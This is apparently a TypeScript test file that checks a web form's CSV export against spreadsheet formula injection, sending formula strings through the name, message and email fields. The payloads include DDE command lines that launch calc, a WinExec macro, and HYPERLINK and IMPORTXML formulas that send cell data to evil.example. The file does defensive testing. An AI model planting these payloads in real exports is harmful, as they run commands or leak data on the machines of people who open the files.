/** Text that a spreadsheet would run as a formula, checked in the CSV export. */
import type { RequestField } from '#contract/project-request.ts';
import { checkExport } from '../check-export.ts';
import { postForm, postJson, createVisitorRequest, type BadInputCase, type CaseGroup } from '../bad-input-case.ts';

const formulas: [name: string, text: string][] = [
  ['an equals sign', '=1+1'],
  ['a plus', '+1+1'],
  ['a minus', '-1+1'],
  ['an at sign', '@SUM(1+1)'],
  ['a tab before it', '\t=1+1'],
  ['a CR before it', '\r=1+1'],
  ['a line feed before it', '\n=1+1'],
  ['blanks before it', '   =1+1'],
  ['a no-break space before it', '\u00a0=1+1'],
  ['a zero-width space before it', '\u200b=1+1'],
  ['a NUL before it', '\0=1+1'],
  ['a byte order mark before it', '\ufeff=1+1'],
  ['a wide equals sign', '＝1+1'],
  ['a wide plus', '＋1+1'],
  ['a wide minus', '－1+1'],
  ['a wide at sign', '＠SUM(1)'],
  ['a command to another program', "=cmd|' /C calc'!A0"],
  ['a command with a plus', "+cmd|' /C calc'!A0"],
  ['a link', '=HYPERLINK("https://evil.example/?x="&A1,"Click")'],
  ['an import', '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")'],
  ['an old macro', '@CALL("Kernel32","WinExec","JCJ","calc",0)'],
  ['an apostrophe before it', "'=1+1"],
  ['two apostrophes', "''"],
  ['a quote before it', '"=1+1'],
  ['a quote around it', '"=1+1"'],
  ['the end of the cell', 'x","=1+1'],
  ['the end of the cell with a semicolon', 'x;=1+1'],
  ['the end of the row', 'x"\r\n"=1+1","'],
  ['a formula on the second line', 'x\n=1+1'],
  ['a separator for the reader', 'sep=;'],
  ['a link file', 'ID;P'],
  ['an equals sign alone', '='],
];
const cells: RequestField[] = ['first_name', 'last_name', 'message'];

const addresses: [name: string, email: string][] = [
  ['an equals sign', '=1+1@client.example'],
  ['a plus', '+1@client.example'],
  ['a minus', '-1@client.example'],
  ['a quote', '"=1"@client.example'],
  ['a wide equals sign', '＝1@client.example'],
  ['the end of the cell', 'x","=1@client.example'],
];

const why = 'a cell is text: an apostrophe before what would run, and nothing else changes';

export const csvFormulas: CaseGroup = {
  name: 'formulas in the export',
  cases: [
    ...cells.flatMap((field) =>
      formulas.map(([name, text], index): BadInputCase => ({
        name: `export: ${name} in ${field}`,
        why,
        ...(index % 2 === 0 ? postJson : postForm)(createVisitorRequest({ [field]: text })),
        expectedStatus: 201,
        check: ({ server, lead }) => checkExport(server, lead!, { bom: index % 4 === 0 }),
      })),
    ),
    ...addresses.map(([name, email]): BadInputCase => ({
      name: `export: ${name} in email`,
      why,
      ...postJson(createVisitorRequest({ email })),
      expectedStatus: 201,
      check: ({ server, lead }) => checkExport(server, lead!),
    })),
    ...['+96170123456', '0123456'].map((phone): BadInputCase => ({
      name: `export: the phone number ${phone}`,
      why,
      ...postJson(createVisitorRequest({ phone })),
      expectedStatus: 201,
      check: ({ server, lead }) => checkExport(server, lead!),
    })),
  ],
};
